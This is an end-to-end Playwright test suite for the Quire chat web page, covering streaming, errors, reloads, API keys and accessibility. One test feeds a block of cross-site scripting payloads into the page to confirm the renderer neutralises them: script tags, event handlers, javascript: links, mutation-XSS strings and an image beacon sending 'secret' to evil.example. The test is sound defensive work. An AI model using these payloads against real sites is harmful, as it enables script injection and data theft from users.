"""The chat page as its user sees it, against a scripted server."""

import asyncio
import re

import pytest
from playwright.async_api import Page, Route, expect

from tests.e2e.browsing import ask, begin, last_answer, stored_answer, until_at_end, until_true
from tests.e2e.scripted import LIMITS, ScriptedServer

pytestmark = pytest.mark.asyncio(loop_scope="session")

NUMBER = re.compile(r"^\d+(\.\d)?$")

HOSTILE = """<script>document.title = "owned"</script>

<img src=x onerror="document.title = 'owned'"> and ![pixel](https://evil.example/p.png?q=secret)

[click](javascript:document.title='owned') [data](data:text/html,<script>1</script>) <svg onload=alert(1)>

<style>body { display: none }</style> <form name="body"><input name="querySelector"></form>
<iframe src="//evil.example">

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">

```html
<script>alert("in code")</script>
```

[<https://evil.example>](https://evil.example "a title") </textarea></div></body>
"""


async def test_an_answer_is_rendered_as_markdown_while_it_streams(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    assert stream.request == {"messages": [{"role": "user", "content": "What is Quire?"}], **LIMITS}
    prose = last_answer(page).locator(".prose")
    await stream.delta("Quire is a **chat")
    await expect(prose.locator("strong")).to_have_text("chat")
    await expect(last_answer(page)).to_have_attribute("aria-busy", "true")
    await stream.delta(" server**.\n\n- one\n- two\n\n```sh\nquire serve\n```\n")
    await stream.done()
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    await expect(prose.locator("strong")).to_have_text("chat server")
    await expect(prose.locator("li")).to_have_text(["one", "two"])
    await expect(prose.locator("pre code")).to_have_text("quire serve")
    await expect(page.locator(".question p")).to_have_text("What is Quire?")


async def test_the_second_request_contains_the_conversation(page: Page, server: ScriptedServer) -> None:
    await (await begin(page, server, "One?")).answer("First.")
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    await ask(page, "Two?")
    stream = await server.next_stream()
    assert [(m["role"], m["content"]) for m in stream.request["messages"]] == [
        ("user", "One?"),
        ("assistant", "First."),
        ("user", "Two?"),
    ]
    await stream.answer("Second.")
    await expect(last_answer(page).locator(".prose")).to_have_text("Second.")


@pytest.mark.parametrize("way", ["button", "escape"])
async def test_stop_ends_the_answer_at_once_and_cancels_the_stream(
    page: Page, server: ScriptedServer, way: str
) -> None:
    stream = await begin(page, server)
    await stream.delta("Only this")
    await expect(last_answer(page).locator(".prose")).to_have_text("Only this")
    if way == "button":
        await page.get_by_role("button", name="Stop").click()
    else:
        await page.keyboard.press("Escape")
    await expect(last_answer(page)).to_have_attribute("data-state", "stopped")
    await expect(last_answer(page).locator(".ending")).to_have_text("Stopped.")
    await stream.cancelled.wait()
    await stream.delta(" and not this")
    await stream.done("cancelled")
    await ask(page, "Next?")
    await (await server.next_stream()).answer("Fine.")
    await expect(last_answer(page).locator(".prose")).to_have_text("Fine.")
    await expect(page.locator(".answer").first.locator(".prose")).to_have_text("Only this")


@pytest.mark.parametrize("way", ["button", "shortcut"])
async def test_new_chat_shows_an_empty_page_and_ends_no_answer(page: Page, server: ScriptedServer, way: str) -> None:
    stream = await begin(page, server)
    await stream.delta("Some text")
    await expect(last_answer(page).locator(".prose")).to_have_text("Some text")
    if way == "button":
        await page.get_by_role("button", name="New chat").click()
    else:
        await page.keyboard.press("Control+Shift+O")
    await expect(page.locator("article")).to_have_count(0)
    await expect(page.get_by_text("What would you like to know?")).to_be_visible()
    await expect(page.get_by_label("Your question")).to_be_focused()
    await stream.delta(" and more")
    await stream.done()
    assert (await stored_answer(page))["text"] == "Some text and more"
    assert not stream.cancelled.is_set()
    await page.go_back()
    await expect(last_answer(page).locator(".prose")).to_have_text("Some text and more")
    await page.go_forward()
    await expect(page.locator("article")).to_have_count(0)


async def test_figures_are_updated_while_streaming_and_stay_afterwards(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    figures = last_answer(page).locator(".figures")
    await expect(figures.locator(".waiting")).to_contain_text("Waiting")
    await stream.delta("a", tokens=3)
    await expect(figures.locator(".first-token b")).to_contain_text("s")
    await expect(figures.locator(".tokens b")).to_have_text("3")
    await stream.delta("b", tokens=40)
    await expect(figures.locator(".tokens b")).to_have_text("43")
    await expect(figures.locator(".rate b")).to_have_text(NUMBER)
    await stream.done()
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    kept = await figures.inner_text()
    assert float(await figures.locator(".rate b").inner_text()) > 0
    await page.reload()
    await expect(last_answer(page).locator(".figures")).to_have_text(kept, use_inner_text=True)


async def test_the_rate_of_a_finished_answer_is_the_servers_value(page: Page, server: ScriptedServer) -> None:
    """The times at which its tokens arrived do not matter."""
    stream = await begin(page, server)
    await stream.delta("a")
    await stream.delta("b", tokens=200)
    await stream.done(timings={"queue_ms": 0.1, "ttft_ms": 12.0, "decode_tok_s": 37.4})
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    await expect(last_answer(page).locator(".rate b")).to_have_text("37")
    await page.reload()
    await expect(last_answer(page).locator(".rate b")).to_have_text("37")


@pytest.mark.parametrize("is_streaming", [True, False])
async def test_hostile_markdown_is_inert(page: Page, server: ScriptedServer, is_streaming: bool) -> None:
    stream = await begin(page, server, "<b>bold?</b> ![x](https://evil.example/x.png)")
    await expect(page.locator(".question p")).to_have_text("<b>bold?</b> ![x](https://evil.example/x.png)")
    if is_streaming:
        for start in range(0, len(HOSTILE), 7):
            await stream.delta(HOSTILE[start : start + 7])
    else:
        await stream.delta(HOSTILE)
    await stream.done()
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    prose = last_answer(page).locator(".prose")
    await expect(prose).to_contain_text('<script>document.title = "owned"</script>')
    await expect(prose).to_contain_text("[pixel: https://evil.example/p.png?q=secret]")
    await expect(prose.locator("script, img, svg, style, form, input, iframe, math")).to_have_count(0)
    await expect(prose.locator("pre code")).to_have_text('<script>alert("in code")</script>')
    addresses = await prose.locator("a").evaluate_all("all => all.map(a => [a.getAttribute('href'), a.rel, a.target])")
    links = [tuple(address) for address in addresses if address[0]]
    assert set(links) == {("https://evil.example", "noopener noreferrer", "_blank")}
    handlers = "all => all.flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on') || n === 'style')"
    assert await prose.locator("*").evaluate_all(handlers) == []
    assert (await page.title()).endswith("Quire")


async def test_a_failed_answer_shows_its_error_and_can_be_retried(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    await stream.error("overloaded", 503, "256 requests wait already; try again in a moment.")
    await expect(page.get_by_role("alert")).to_contain_text("256 requests wait already")
    await page.get_by_role("button", name="Try again").click()
    stream = await server.next_stream()
    assert [m["content"] for m in stream.request["messages"]] == ["What is Quire?"]
    await stream.answer("Better.")
    await expect(last_answer(page).locator(".prose")).to_have_text("Better.")


async def test_a_question_that_failed_without_text_is_not_part_of_the_next_request(
    page: Page, server: ScriptedServer
) -> None:
    await (await begin(page, server, "Lost?")).error("engine_error", 500, "The engine failed.")
    await expect(page.get_by_role("alert")).to_be_visible()
    await ask(page, "Again?")
    stream = await server.next_stream()
    assert [m["content"] for m in stream.request["messages"]] == ["Again?"]


async def test_a_lost_connection_keeps_the_text_and_reconnects(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    await stream.delta("Half an")
    await expect(last_answer(page).locator(".prose")).to_have_text("Half an")
    await stream.drop(1011)
    await expect(page.get_by_role("alert")).to_contain_text("connection to the server was lost")
    await expect(last_answer(page).locator(".prose")).to_have_text("Half an")
    await page.get_by_role("button", name="Try again").click()
    await (await server.next_stream()).answer("A complete answer.")
    await expect(last_answer(page).locator(".prose")).to_have_text("A complete answer.")


async def test_an_answer_at_its_length_limit_shows_it(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    await stream.delta("Cut")
    await stream.done("length")
    await expect(last_answer(page).locator(".ending")).to_have_text(
        "Length limit of 1 token reached: see Max tokens in the settings."
    )


async def test_an_answer_that_repeated_itself_says_so_and_offers_to_go_on(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    await stream.delta("no no no")
    await stream.done("length", stop_reason="repetition")
    await expect(last_answer(page).locator(".ending")).to_have_text("Ended, because it repeated itself.")
    await page.reload()
    await expect(last_answer(page).locator(".ending")).to_have_text("Ended, because it repeated itself.")
    await last_answer(page).get_by_role("button", name="Continue answer").click()
    stream = await server.next_stream()
    assert stream.request["messages"][-1] == {"role": "assistant", "content": "no no no"}
    assert stream.request["continue_final_message"] is stream.request["repetition_stop"] is True


async def test_a_reload_keeps_the_conversation(page: Page, server: ScriptedServer) -> None:
    await (await begin(page, server)).answer("**Kept.**")
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    await page.reload()
    await expect(last_answer(page).locator("strong")).to_have_text("Kept.")
    await ask(page, "And now?")
    stream = await server.next_stream()
    assert [m["content"] for m in stream.request["messages"]] == ["What is Quire?", "**Kept.**", "And now?"]


async def test_a_reload_during_an_answer_keeps_its_text(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    await stream.delta("Half an")
    await expect(last_answer(page).locator(".prose")).to_have_text("Half an")
    await page.reload()
    await expect(last_answer(page)).to_have_attribute("data-state", "interrupted")
    await expect(last_answer(page).locator(".prose")).to_have_text("Half an")
    await expect(page.get_by_role("alert")).to_contain_text("The rest was not received.")
    await expect(page.locator(".question p")).to_have_text("What is Quire?")


async def test_shift_enter_makes_a_new_line_and_an_empty_question_is_not_sent(
    page: Page, server: ScriptedServer
) -> None:
    await page.goto(server.url)
    field = page.get_by_label("Your question")
    await expect(page.get_by_role("button", name="Send")).to_be_disabled()
    await field.press("Enter")
    await field.fill("first line")
    await field.press("Shift+Enter")
    await field.type("second line")
    await until_true(field, "field => field.offsetHeight > 60")
    await ask(page, await field.input_value())
    stream = await server.next_stream()
    assert stream.request["messages"][0]["content"] == "first line\nsecond line"
    await expect(field).to_have_value("")


async def test_a_click_on_a_suggestion_sends_it(page: Page, server: ScriptedServer) -> None:
    await page.goto(server.url)
    await page.get_by_role("button", name="What is Quire?").click()
    stream = await server.next_stream()
    assert stream.request["messages"] == [{"role": "user", "content": "What is Quire?"}]


async def test_the_model_is_named_and_has_its_suggestions(page: Page, server: ScriptedServer) -> None:
    server.model = "<i>other</i>-7b"
    await page.goto(server.url)
    await expect(page.locator(".model-name")).to_have_text("<i>other</i>-7b")
    await expect(page.get_by_role("button", name="What can you help me with?")).to_be_visible()
    await expect(page.locator(".lead")).to_contain_text("Models make mistakes: check what matters.")
    await expect(page.locator(".lead")).not_to_contain_text("English")


async def test_the_welcome_of_guide_says_its_subject_and_language(page: Page, server: ScriptedServer) -> None:
    await page.goto(server.url)
    await expect(page.locator(".lead")).to_contain_text(
        "“guide” knows Quire alone, and answers each question by itself, in English."
    )
    await expect(page.locator(".lead")).not_to_contain_text("mistakes")


async def test_load_progress_is_shown_until_the_server_is_ready(page: Page, server: ScriptedServer) -> None:
    server.health = {"status": "loading", "progress": 0.42}
    await page.goto(server.url)
    await expect(page.get_by_text("Loading the model… 42 %")).to_be_visible()
    await expect(page.locator("progress")).to_have_js_property("value", 42)
    await page.get_by_label("Your question").fill("Early question")
    await expect(page.get_by_role("button", name="Send")).to_be_disabled()
    server.health = {"status": "loading", "progress": 0.9}
    await expect(page.get_by_text("Loading the model… 90 %")).to_be_visible()
    server.health = {"status": "ready", "progress": 1.0}
    await expect(page.get_by_role("button", name="Send")).to_be_enabled()
    await expect(page.locator("progress")).to_have_count(0)


@pytest.mark.own_page
async def test_connecting_is_named_when_it_takes_long(page: Page, server: ScriptedServer) -> None:
    answered = asyncio.Event()

    async def wait(route: Route) -> None:
        await answered.wait()
        await route.continue_()

    await page.route("**/readyz", wait)
    await page.goto(server.url)
    await expect(page.get_by_text("Connecting to the server…")).to_be_visible()
    answered.set()
    await expect(page.get_by_text("Connecting to the server…")).to_have_count(0)
    await expect(page.locator(".dot")).to_have_attribute("data-phase", "ready")


async def test_a_failed_load_shows_its_message(page: Page, server: ScriptedServer) -> None:
    server.health = {"status": "failed", "progress": 0.1, "message": "model.safetensors is truncated."}
    await page.goto(server.url)
    await expect(page.get_by_role("alert")).to_have_text("model.safetensors is truncated.")


async def test_the_key_is_requested_once_checked_and_kept_for_the_tab(page: Page, server: ScriptedServer) -> None:
    server.key = "right"
    await page.goto(server.url)
    field = page.get_by_label("This server requires an API key.")
    await expect(field).to_be_focused()
    await field.fill("wrong")
    await field.press("Enter")
    await expect(page.get_by_role("alert")).to_have_text("The key was not accepted.")
    await field.fill("right")
    await page.get_by_role("button", name="Continue").click()
    await ask(page, "Open?")
    await (await server.next_stream()).answer("Open.")
    await expect(last_answer(page).locator(".prose")).to_have_text("Open.")
    await page.reload()
    await ask(page, "Still open?")
    await (await server.next_stream()).answer("Still.")
    await expect(last_answer(page).locator(".prose")).to_have_text("Still.")
    assert [hello["key"] for hello in server.hellos] == ["right", "right"]
    await expect(field).to_have_count(0)
    await page.locator(".model").click()
    sheet = page.get_by_role("dialog", name="Model")
    await expect(sheet).to_contain_text("Set the environment variable QUIRE_API_KEY to the API key")
    await expect(sheet.locator(".snippet")).to_contain_text('-H "Authorization: Bearer $QUIRE_API_KEY"')
    await expect(sheet).not_to_contain_text("right")


async def test_a_revoked_key_is_requested_again(page: Page, server: ScriptedServer) -> None:
    await page.goto(server.url)
    await expect(page.locator(".dot")).to_have_attribute("data-phase", "ready")
    server.key = "new"
    await ask(page, "Still there?")
    await (await server.next_stream()).websocket.close(4401)
    await expect(page.get_by_label("This server requires an API key.")).to_be_visible()
    await expect(page.locator(".question p")).to_have_text("Still there?")


@pytest.mark.motion
async def test_the_log_follows_the_answer_unless_scrolled_up(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    distance = "log => log.scrollHeight - log.scrollTop - log.clientHeight"
    for number in range(40):
        await stream.delta(f"paragraph {number}\n\n")
    await expect(last_answer(page).locator("p")).to_have_count(40)
    log = page.locator(".log")
    await until_at_end(log)
    await log.hover()
    await page.mouse.wheel(0, -600)
    await expect(page.get_by_text("paragraph 20", exact=True)).to_be_in_viewport()
    await stream.delta("the end")
    await expect(last_answer(page).locator("p")).to_have_count(41)
    assert await log.evaluate(distance) > 400


async def test_an_answer_is_announced_in_sentences(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    region = page.locator("#app > .unseen[aria-live='polite']")
    await expect(region).to_be_attached()
    await stream.delta("The **first** sentence. The sec")
    await expect(region).to_have_text("The first sentence.")
    await stream.delta("ond")
    await stream.done()
    await expect(region).to_have_text("The second")
    await expect(page.get_by_role("log")).to_have_attribute("aria-live", "off")
